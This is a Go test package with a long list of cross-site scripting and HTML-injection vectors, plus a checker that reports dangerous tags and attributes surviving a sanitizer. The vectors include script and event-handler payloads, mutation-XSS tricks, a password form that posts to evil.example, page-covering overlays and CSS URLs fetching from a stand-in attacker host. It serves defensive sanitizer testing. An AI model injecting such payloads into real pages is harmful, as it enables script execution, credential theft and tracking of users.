// Package cleantest contains HTML that attacks its reader, for tests of code that must prevent such attacks.
package cleantest

import (
	"regexp"
	"slices"
	"strings"

	nethtml "golang.org/x/net/html"
)

// Vectors are pieces of HTML of the kinds that OWASP's cheat sheets list. Each runs a script, fetches something, sends
// something or covers the page in some browser, now or in the past. Their scripts call alert, so a test can find out
// whether a script ran.
var Vectors = []string{
	`<script>alert(1)</script>`,
	`<ScRiPt>alert(1)</sCrIpT>`,
	`<script src="https://evil.example/x.js"></script>`,
	`<script type="module">alert(1)</script>`,
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	`<<script>alert(1);//<</script>`,
	`<script/src="data:text/javascript,alert(1)"></script>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<img src=x onerror="&#97;lert(1)">`,
	`<img src=x:x onerror=alert(1)//`,
	"<img/src=`x`onerror=alert(1)>",
	`<img """><script>alert(1)</script>">`,
	`<img src="javascript:alert(1)">`,
	`<img src="https://evil.example/seen.gif">`,
	`<img src="//evil.example/seen.gif">`,
	`<img srcset="https://evil.example/seen.gif 1x" src="data:image/png;base64,AAAA">`,
	`<img src="data:text/html,<script>alert(1)</script>">`,
	`<img lowsrc="https://evil.example/x" dynsrc="javascript:alert(1)">`,
	`<picture><source srcset="https://evil.example/x"><img src="https://evil.example/x"></picture>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	"<a href=\"java\nscript:alert(1)\">x</a>",
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="&#106;&#97;vascript&colon;alert(1)">x</a>`,
	`<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="data:image/svg+xml;base64,PHN2Zy8+">x</a>`,
	`<a href="file:///etc/passwd">x</a>`,
	`<a href="\\evil.example\share">x</a>`,
	`<a href="//evil.example/share">x</a>`,
	`<a href="#" onclick="alert(1)">x</a>`,
	`<a href="https://ok.example" ping="https://evil.example">x</a>`,
	`<body onload=alert(1)>`,
	`<div onmouseover="alert(1)" style="width:100%">x</div>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<input autofocus onfocus=alert(1)>`,
	`<select autofocus onfocus=alert(1)><option>1</select>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<video autoplay onloadstart=alert(1) src=x></video>`,
	`<video><source onerror="alert(1)"></video>`,
	`<audio src=x onerror=alert(1)></audio>`,
	`<video poster="https://evil.example/x"></video>`,
	`<p style="animation:x 1s" onanimationstart="alert(1)">x</p>`,
	`<svg onload=alert(1)></svg>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><script xlink:href="data:text/javascript,alert(1)"></script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>`,
	`<svg><set attributeName="href" to="javascript:alert(1)"/></svg>`,
	`<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
	`<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJhbGVydCgxKSIvPg==#x"/></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<template><img src=x onerror=alert(1)></template>`,
	`<textarea></textarea><img src=x onerror=alert(1)>`,
	`<title><img src=x onerror=alert(1)></title>`,
	`<xmp><img src=x onerror=alert(1)></xmp>`,
	`<plaintext><img src=x onerror=alert(1)>`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>`,
	`<object data="javascript:alert(1)"></object>`,
	`<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>`,
	`<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">`,
	`<applet code="x.class"></applet>`,
	`<portal src="https://evil.example"></portal>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	`<meta http-equiv="Set-Cookie" content="x=1">`,
	`<base href="https://evil.example/">`,
	`<link rel="stylesheet" href="https://evil.example/x.css">`,
	`<link rel="prefetch" href="https://evil.example/x">`,
	`<link rel="stylesheet" href="javascript:alert(1)">`,
	`<style>@import url("https://evil.example/x.css");</style>`,
	`<style>body{background:url("https://evil.example/x")}</style>`,
	`<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>x</ul>`,
	`<form action="https://evil.example"><input type="password" name="p"><button>Log in</button></form>`,
	`<button form="f" formaction="javascript:alert(1)">x</button>`,
	`<input type="image" src="https://evil.example/x.png">`,
	`<isindex action="javascript:alert(1)" type="image">`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">Log in</div>`,
	`<header style="width:100vw;height:100vh;background:#fff">Log in</header>`,
	`<div style="posit\69on:fixed;top:0">x</div>`,
	`<div style="position:/**/absolute;z-index:9999">x</div>`,
	`<div style="margin-top:-5000px">x</div>`,
	`<div style="transform:scale(99)">x</div>`,
	`<div style="background:url(https://evil.example/x)">x</div>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<div style="background-image:url('https://evil.example/x')">x</div>`,
	`<div style="width:expression(alert(1))">x</div>`,
	`<div style="xss:expr/**/ession(alert(1))">x</div>`,
	`<div style="behavior:url(x.htc)">x</div>`,
	`<div style="-moz-binding:url('https://evil.example/x.xml#x')">x</div>`,
	`<div style="color:red;--x:url(https://evil.example/x);background:var(--x)">x</div>`,
	`<div style="background:image-set('https://evil.example/x' 1x)">x</div>`,
	`<table background="javascript:alert(1)"><tr><td background="https://evil.example/x">x</table>`,
	`<bgsound src="javascript:alert(1)">`,
	`<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>`,
	`<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
	`<custom-element onclick=alert(1) is="x">x</custom-element>`,
	`<div contenteditable autofocus onfocus=alert(1) tabindex=1>x</div>`,
	`<img name="getElementById" src="data:image/png;base64,AAAA"><form name="documentElement"></form>`,
	`<div data-slider="s"><script>(function () { var id = "slider-00000000-1", labels = [alert(1)], width = 4, height = 4; })();</script></div>`,
	`<div class="overcomplete-paged"><table><thead><tr><th></table><script>alert(1)</script></div>`,
	"&#xE002;0&#xE003;<img title=\"\uE0020\uE003\" src=x onerror=alert(1)>",
	"<img alt=\"<x title='\uE0000\uE001'>\" src=x onerror=alert(1)>",
	`<script type="application/json" id="overcomplete-notebook">{"cells":[]}</script>`,
}

// Harm returns the dangerous elements and attributes that remain in HTML that package clean has cleaned. It parses the
// HTML into a tree as a browser does, and uses none of package clean's own lists.
func Harm(cleaned string) (found []string) {
	doc, err := nethtml.Parse(strings.NewReader("<!DOCTYPE html><body>" + cleaned))
	if err != nil {
		return []string{err.Error()}
	}
	bad := []string{"script", "iframe", "frame", "frameset", "object", "embed", "applet", "portal", "meta", "base", "link", "style",
		"form", "svg", "math", "video", "audio", "source", "template", "noscript", "textarea", "title", "plaintext", "xmp", "marquee", "bgsound", "isindex", "header", "nav", "main"}
	for n := range doc.Descendants() {
		if n.Type == nethtml.CommentNode {
			found = append(found, "a comment")
		}
		if n.Type != nethtml.ElementNode {
			continue
		}
		if slices.Contains(bad, n.Data) || strings.ContainsAny(n.Data, ":-") {
			found = append(found, n.Data)
		}
		for _, a := range n.Attr {
			value := strings.ToLower(a.Val)
			switch {
			case strings.HasPrefix(a.Key, "on"), slices.Contains([]string{"name", "srcset", "srcdoc", "action", "formaction", "ping", "poster", "background", "autofocus", "tabindex", "contenteditable", "is", "form"}, a.Key):
				found = append(found, a.Key)
			case a.Key == "src" && !strings.HasPrefix(value, "data:image/"),
				a.Key == "href" && !regexp.MustCompile(`^(https?://|mailto:|#|[a-z0-9_.][^:\\]*$)`).MatchString(value),
				a.Key == "style" && regexp.MustCompile(`position|url|expression|image-set|var|binding|behavior|transform|-\d|\\|--`).MatchString(value),
				a.Key == "id" && strings.HasPrefix(value, "overcomplete"):
				found = append(found, a.Key+"="+a.Val)
			}
		}
	}
	return found
}
